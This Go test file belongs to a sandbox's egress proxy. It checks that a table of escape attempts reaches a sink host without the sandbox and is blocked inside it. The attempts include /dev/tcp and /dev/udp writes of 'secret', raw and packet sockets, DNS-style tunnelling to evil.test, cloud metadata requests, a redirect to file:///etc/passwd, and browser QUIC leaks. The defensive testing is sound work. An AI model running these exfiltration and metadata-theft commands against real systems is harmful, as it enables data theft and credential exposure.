package egress_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/deskhand/deskhand/internal/procfs"
	"github.com/deskhand/deskhand/sandbox"
	"github.com/deskhand/deskhand/sandbox/bwrap"
	"github.com/deskhand/deskhand/sandbox/egress"
	"github.com/deskhand/deskhand/sandbox/host"
)

const proxyInside = "127.0.0.1:3128"

// walled is a sandbox with a proxy that allows entries. The function ends the
// proxy alone.
func walled(t *testing.T, n *internet, binds []bwrap.Bind, entries ...string) (*bwrap.Sandbox, *egress.Proxy, func()) {
	t.Helper()
	s, err := bwrap.Start(t.Context(), bwrap.Config{Proxy: proxyInside, Binds: binds})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	l, err := s.Listen(t.Context(), proxyInside)
	if err != nil {
		t.Fatal(err)
	}
	ended := &endable{Listener: l}
	return s, serveOn(t, n, egress.Config{}, ended, entries...), func() { _ = ended.Close() }
}

// endable is a listener whose end by somebody else is no failure of the test.
type endable struct{ net.Listener }

// open is a place without walls in the same network: there every attack must succeed.
func open(t *testing.T) sandbox.Sandbox {
	t.Helper()
	s := host.New(host.Config{Env: []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}})
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return s
}

// sh runs a script to its end and returns what it printed.
func sh(t *testing.T, s sandbox.Sandbox, script string) string {
	t.Helper()
	p, err := s.Exec(t.Context(), sandbox.Cmd{Args: []string{"bash", "-c", script}})
	if err != nil {
		t.Fatal(err)
	}
	_ = p.Stdin().Close()
	said := make(chan string, 1)
	go func() {
		data, _ := io.ReadAll(p.Stderr())
		said <- string(data)
	}()
	limit := time.AfterFunc(patience, func() { _ = p.Kill() })
	defer limit.Stop()
	out, _ := io.ReadAll(p.Stdout())
	text := string(out) + <-said
	_, _ = p.Wait()
	return text
}

// python is a program for one line of the table.
func python(lines ...string) string {
	return "/usr/bin/python3 - <<'E'\nimport socket\n" + strings.Join(lines, "\n") + "\nE"
}

// direct are the ways past the proxy.
var direct = []struct{ name, script string }{
	{"N1 curl without its settings", "env -i /usr/bin/curl -s -m 5 http://198.51.100.66/"},
	{"N1 a socket", python("s = socket.create_connection(('198.51.100.66', 80), 5)", "s.sendall(b'secret')")},
	{"N2 /dev/tcp", "echo secret >/dev/tcp/198.51.100.66/80"},
	{"N2 /dev/udp", "echo secret >/dev/udp/198.51.100.66/53"},
	{"N3 a raw socket", python("import struct", "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)", "s.sendto(struct.pack('!HHHH', 4000, 53, 14, 0) + b'secret', ('198.51.100.66', 0))")},
	{"N3 a packet socket", python("import struct", "s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800))",
		"ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 34, 1, 0, 64, 17, 0, socket.inet_aton('192.0.2.200'), socket.inet_aton('198.51.100.66'))",
		"c = sum(struct.unpack('!10H', ip)); c = ~((c & 0xffff) + (c >> 16)) & 0xffff",
		"s.sendto(ip[:10] + struct.pack('!H', c) + ip[12:] + struct.pack('!HHHH', 4000, 53, 14, 0) + b'secret', ('lo', 0x800, 0, 1, b'\\0' * 6))")},
	{"N4 a question over UDP", python("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)", "s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1', ('198.51.100.66', 53))")},
	{"N4 a question over TCP", python("s = socket.create_connection(('198.51.100.66', 53), 5)", "s.sendall(b'secret')")},
	{"N15 metadata", "/usr/bin/curl -s -m 5 --noproxy '*' http://169.254.169.254/latest"},
	{"N15 metadata, IPv6", "/usr/bin/curl -s -m 5 --noproxy '*' 'http://[fd00:ec2::254]/latest'"},
	{"N15 metadata, Alibaba", "/usr/bin/curl -s -m 5 --noproxy '*' http://100.100.100.200/latest"},
	{"N16 IPv6", "/usr/bin/curl -s -m 5 --noproxy '*' 'http://[2001:db8::66]/'"},
	{"N17 the host's loopback", "/usr/bin/curl -s -m 5 --noproxy '*' http://127.0.0.1:8080/"},
	{"N17 an abstract socket", python("s = socket.socket(socket.AF_UNIX)", "s.connect('\\0deskhand-test-X0')", "s.sendall(b'secret')")},
	{"N17 a socket by path", python("s = socket.socket(socket.AF_UNIX)", "s.connect('SOCKET')", "s.sendall(b'secret')")},
	{"N21 curl over UDP", python("s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)", "s.sendto(b'secret', ('2001:db8::66', 443))")},
}

// TestAttackDirect plays each way past the proxy without walls, where bytes
// must arrive, and inside, where none may.
func TestAttackDirect(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	dir, err := os.MkdirTemp("", "sock")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	for _, address := range []string{"@deskhand-test-X0", dir + "/docker.sock"} {
		n.unix(address)
	}
	outside := open(t)
	within, _, _ := walled(t, n, nil, "allowed.test")
	for _, a := range direct {
		script := strings.ReplaceAll(a.script, "SOCKET", dir+"/docker.sock")
		out := sh(t, outside, script)
		off := arrived(n)
		if off == 0 {
			t.Errorf("%s: nothing arrives without walls: the attack is not real: %s", a.name, out)
		}
		sh(t, within, script)
		on, from := n.drain()
		row(t, a.name, off, on)
		if on != 0 {
			t.Errorf("%s: arrived: %q", a.name, from)
		}
	}
	if left, from := n.drain(); left != 0 {
		t.Errorf("late: %q", from)
	}
}

// unix is a sink that is no network.
func (n *internet) unix(address string) {
	l, err := net.Listen("unix", address)
	if err != nil {
		n.t.Fatal(err)
	}
	n.t.Cleanup(func() { _ = l.Close() })
	n.served.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			got, _ := c.Read(make([]byte, 100))
			_ = c.Close()
			n.count(address, got)
		}
	})
}

// TestPrograms checks that what is allowed simply works, with the programs'
// own ways of finding a proxy, and that redirects are judged again (N20).
func TestPrograms(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	s, p, _ := walled(t, n, []bwrap.Bind{{Host: n.ca, Inside: "/shared/ca.pem"}}, "allowed.test")
	for _, c := range []struct{ what, script, want string }{
		{"curl", "curl -s http://allowed.test/", "welcome to allowed.test"},
		{"curl, TLS", "curl -sS --cacert /shared/ca.pem https://allowed.test/", "welcome to allowed.test"},
		{"curl, spelt otherwise", "curl -s http://ALLOWED.test./", "welcome to allowed.test"},
		{"curl, a large body", "head -c 3000000 /dev/zero | curl -s -T - http://allowed.test/echo | wc -c", "3000000"},
		{"curl, a large answer over TLS", "curl -s --cacert /shared/ca.pem https://allowed.test/big | wc -c", "8388608"},
		{"curl, in a tunnel", "curl -s -p http://allowed.test/", "welcome to allowed.test"},
		{"wget", "wget -qO- http://allowed.test/", "welcome to allowed.test"},
		{"python", "/usr/bin/python3 -c \"import urllib.request as r; print(r.urlopen('http://allowed.test/').read())\"", "welcome to allowed.test"},
		{"git", "git ls-remote http://allowed.test/x.git 2>&1", "refs/heads/main"},
		{"loopback inside", "/usr/bin/python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 100); do curl -s http://127.0.0.1:8000/ >/dev/null && echo served && break; sleep 0.1; done; kill %1", "served"},
		{"curl, refused", "curl -s http://evil.test/", "The network refused a connection to evil.test:80: it is not on the list of allowed hosts."},
		{"N20 to evil", "curl -sL 'http://allowed.test/to?u=http://evil.test/'", "refused a connection to evil.test:80"},
		{"N20 to metadata", "curl -sL 'http://allowed.test/to?u=http://169.254.169.254/'", "refused a connection to 169.254.169.254:80"},
		{"N20 to a file", "curl -sL -S 'http://allowed.test/to?u=file:///etc/passwd' 2>&1", "Protocol \"file\" "},
	} {
		out := sh(t, s, c.script)
		if !strings.Contains(out, c.want) {
			t.Errorf("%s: %.300q, want %q", c.what, out, c.want)
		}
	}
	if got, from := n.drain(); got != 0 {
		t.Errorf("arrived: %q", from)
	}
	hosts := map[string]bool{}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	all, _ := p.Judged(ctx)
	for _, j := range all {
		hosts[j.Host] = j.Allowed
	}
	if len(hosts) != 3 || !hosts["allowed.test"] || hosts["evil.test"] || hosts["169.254.169.254"] {
		t.Errorf("recorded: %+v", all)
	}
}

// TestAttackRedirect is N20 with the guard off: an open proxy follows.
func TestAttackRedirect(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	sh(t, open(t), "http_proxy=http://"+naive(t, n, "")+" /usr/bin/curl -sL -H 'Connection: close' 'http://allowed.test/to?u=http://evil.test/'")
	off := arrived(n)
	_, proxy := guarded(t, n, egress.Config{}, "allowed.test")
	sh(t, open(t), "http_proxy=http://"+proxy+" /usr/bin/curl -sL -H 'Connection: close' 'http://allowed.test/to?u=http://evil.test/'")
	on, from := n.drain()
	row(t, "N20 a redirect", off, on)
	if off == 0 || on != 0 {
		t.Errorf("without %d, with %d: %q", off, on, from)
	}
}

// TestAttackProxyGone is N26: with the proxy gone nothing is reached.
func TestAttackProxyGone(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	s, err := bwrap.Start(t.Context(), bwrap.Config{Proxy: proxyInside})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	l, err := s.Listen(t.Context(), proxyInside)
	if err != nil {
		t.Fatal(err)
	}
	rules, err := egress.NewRules(nil, "allowed.test")
	if err != nil {
		t.Fatal(err)
	}
	p, err := egress.New(egress.Config{Judge: rules, Resolver: n, Own: own})
	if err != nil {
		t.Fatal(err)
	}
	ended := make(chan error, 1)
	go func() { ended <- p.Serve(context.Background(), l) }()
	if out := sh(t, s, "curl -s http://allowed.test/"); !strings.Contains(out, "welcome") {
		t.Errorf("before: %q", out)
	}
	_ = l.Close() // as when it breaks
	if err := <-ended; err == nil {
		t.Error("a proxy that broke says nothing")
	}
	scripts := []string{"curl -s -m 5 http://allowed.test/", "curl -s -m 5 --noproxy '*' http://198.51.100.7/", "env -i /usr/bin/curl -s -m 5 http://198.51.100.66/"}
	sh(t, open(t), scripts[2])
	off, _ := n.drain()
	for _, script := range scripts {
		if out := sh(t, s, script); strings.Contains(out, "welcome") || strings.Contains(out, "sink") {
			t.Errorf("%s: %q", script, out)
		}
	}
	on, from := n.drain()
	row(t, "N26 the proxy is gone", off, on)
	if off == 0 || on != 0 {
		t.Errorf("without %d, with %d: %q", off, on, from)
	}
}

// TestAttackBrowser is N21: a page tries WebRTC, WebSockets, prefetching and
// more, in a browser without the walls and inside.
func TestAttackBrowser(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("MISSING PROGRAM: chromium")
	}
	if !privately(t) {
		return
	}
	n := newInternet(t)
	const flags = " --headless --disable-gpu --no-first-run --user-data-dir=$(mktemp -d) --timeout=8000 --dump-dom http://allowed.test/page"
	resolve := " --no-sandbox --host-resolver-rules='MAP allowed.test " + allowedAddr + ", MAP *.evil.test " + evilAddr + ", MAP evil.test " + evilAddr + "'"
	out := sh(t, open(t), "timeout -k 1 40 "+chromium+resolve+flags)
	off, from := n.drain()
	t.Logf("without walls arrived: %q", from)
	if off == 0 {
		t.Errorf("nothing arrives without walls: the attack is not real: %.900q", out)
	}
	s, p, _ := walled(t, n, nil, "allowed.test")
	out = sh(t, s, "env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY timeout -k 1 60 chromium --proxy-server=direct:// --enable-quic"+flags)
	if !strings.Contains(out, "start</title>") {
		t.Errorf("the page was not loaded through the proxy of the policy: %.900q", out)
	}
	on, from := n.drain()
	row(t, "N21 a page in Chromium", off, on)
	if on != 0 {
		t.Errorf("arrived: %q", from)
	}
	if j := judged(t, p); j.Rule == "" {
		t.Errorf("%+v", j)
	}
	// QUIC, which is UDP and knows no proxy.
	const quic = " --enable-quic --origin-to-force-quic-on=evil.test:443 --headless --disable-gpu --no-first-run --user-data-dir=$(mktemp -d) --timeout=5000 --dump-dom https://evil.test/"
	sh(t, open(t), "timeout -k 1 40 "+chromium+resolve+quic)
	_, from = n.drain()
	udpOff := datagrams(from)
	sh(t, s, "timeout -k 1 40 chromium --proxy-server=direct:// --host-resolver-rules='MAP *.test "+evilAddr+"'"+quic)
	on, from = n.drain()
	row(t, "N21 QUIC in Chromium, over UDP", udpOff, on)
	if udpOff == 0 || on != 0 {
		t.Errorf("without walls %d bytes of UDP, inside %d: %q", udpOff, on, from)
	}
}

// datagrams sums the bytes that arrived over UDP.
func datagrams(from []string) (sum int64) {
	for _, f := range from {
		where, text, _ := strings.Cut(f, ": ")
		if strings.HasSuffix(where, "/udp") {
			n, _ := strconv.ParseInt(text, 10, 64)
			sum += n
		}
	}
	return sum
}

// TestAttackListener is N27: a server inside that listens on every address is
// reached by nobody outside.
func TestAttackListener(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	const serve = "cd $(mktemp -d); echo secret >f; exec /usr/bin/python3 -u -m http.server %d --bind 0.0.0.0"
	reach := func(s sandbox.Sandbox, port int) (got int64) {
		p, err := s.Exec(t.Context(), sandbox.Cmd{Args: []string{"bash", "-c", fmt.Sprintf(serve, port)}})
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = p.Kill() }()
		go func() { _, _ = io.Copy(io.Discard, p.Stderr()) }()
		if line, err := bufio.NewReader(p.Stdout()).ReadString('\n'); err != nil || !strings.Contains(line, "Serving") {
			t.Fatalf("%q, %v", line, err)
		}
		for _, at := range []string{"127.0.0.1", allowedAddr, "192.0.2.77"} {
			answer, err := (&http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}).Get(fmt.Sprintf("http://%s:%d/f", at, port))
			if err == nil {
				data, _ := io.ReadAll(answer.Body)
				_ = answer.Body.Close()
				got += int64(len(data))
			}
		}
		return got
	}
	off := reach(open(t), 8010)
	within, _, _ := walled(t, n, nil, "allowed.test")
	on := reach(within, 8011)
	row(t, "N27 a server inside, from outside", off, on)
	if off == 0 || on != 0 {
		t.Errorf("without %d, with %d", off, on)
	}
}

const killedArg = "EGRESS_TEST_KILLED"

// TestKilledHelper is not a test: it is the process with the proxy that
// TestAttackKilled kills. Inside, a program tries to get out without end.
func TestKilledHelper(t *testing.T) {
	if os.Getenv(killedArg) == "" {
		return
	}
	s, err := bwrap.Start(context.Background(), bwrap.Config{Proxy: proxyInside})
	if err != nil {
		t.Fatal(err)
	}
	l, err := s.Listen(context.Background(), proxyInside)
	if err != nil {
		t.Fatal(err)
	}
	rules, err := egress.NewRules(nil, "allowed.test")
	if err != nil {
		t.Fatal(err)
	}
	p, err := egress.New(egress.Config{Judge: rules, Resolver: &internet{names: map[string][]string{"allowed.test": {allowedAddr}}}, Own: own})
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = p.Serve(context.Background(), l) }()
	if out := sh(t, s, "curl -s http://allowed.test/"); !strings.Contains(out, "welcome") {
		t.Fatalf("before: %q", out)
	}
	fmt.Println("ready")
	sh(t, s, os.Getenv(killedArg))
}

// TestAttackKilled is N26: the process with the proxy is killed. What ran
// inside is gone with it, and nothing got out on the way.
func TestAttackKilled(t *testing.T) {
	if !privately(t) {
		return
	}
	n := newInternet(t)
	mark := fmt.Sprintf("killed-%d", os.Getpid())
	script := "while :; do curl -s -m 2 http://allowed.test/; env -i /usr/bin/curl -s -m 2 http://198.51.100.66/; done; : " + mark
	helper := exec.CommandContext(t.Context(), os.Args[0], "-test.run=^TestKilledHelper$")
	helper.Env = append(os.Environ(), killedArg+"="+script)
	helper.Stderr = os.Stderr
	out, err := helper.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := helper.Start(); err != nil {
		t.Fatal(err)
	}
	if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || line != "ready\n" {
		t.Fatalf("%q, %v", line, err)
	}
	if err := helper.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = helper.Wait()
	sh(t, open(t), "env -i /usr/bin/curl -s -m 5 http://198.51.100.66/") // what a program does that finds its proxy gone
	off := arrived(n)
	for end := time.Now().Add(patience); ; {
		all, err := procfs.List()
		if err != nil {
			t.Fatal(err)
		}
		if !slices.ContainsFunc(all, func(p procfs.Process) bool {
			data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", p.PID))
			return strings.HasSuffix(string(data), ": "+mark+"\x00")
		}) {
			break
		}
		if time.Now().After(end) {
			t.Fatal("what ran inside outlives the process with the proxy")
		}
	}
	on, from := n.drain()
	row(t, "N26 SIGKILL of the proxy", off, on)
	if off == 0 || on != 0 {
		t.Errorf("without %d, with %d: %q", off, on, from)
	}
}
